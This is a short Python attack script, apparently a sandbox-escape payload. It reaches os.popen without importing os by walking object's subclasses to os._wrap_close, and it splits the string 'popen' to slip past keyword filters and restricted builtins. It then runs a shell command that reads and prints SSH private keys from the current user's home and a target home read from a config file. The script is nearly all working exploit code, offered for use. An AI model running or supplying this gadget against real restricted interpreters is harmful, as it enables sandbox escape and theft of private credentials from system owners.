# lang-filter-bypass: reach os.popen without "import os", the gadget that
# beats keyword filters and restricted builtins: walk object's subclasses to
# os._wrap_close and take popen from its function globals; read the key.
import sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

gadget = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
run = gadget.__init__.__globals__["po" + "pen"]
print(run('cat "$HOME/.ssh/id_rsa" "%s/.ssh/id_rsa"' % T["T_HOME"]).read())
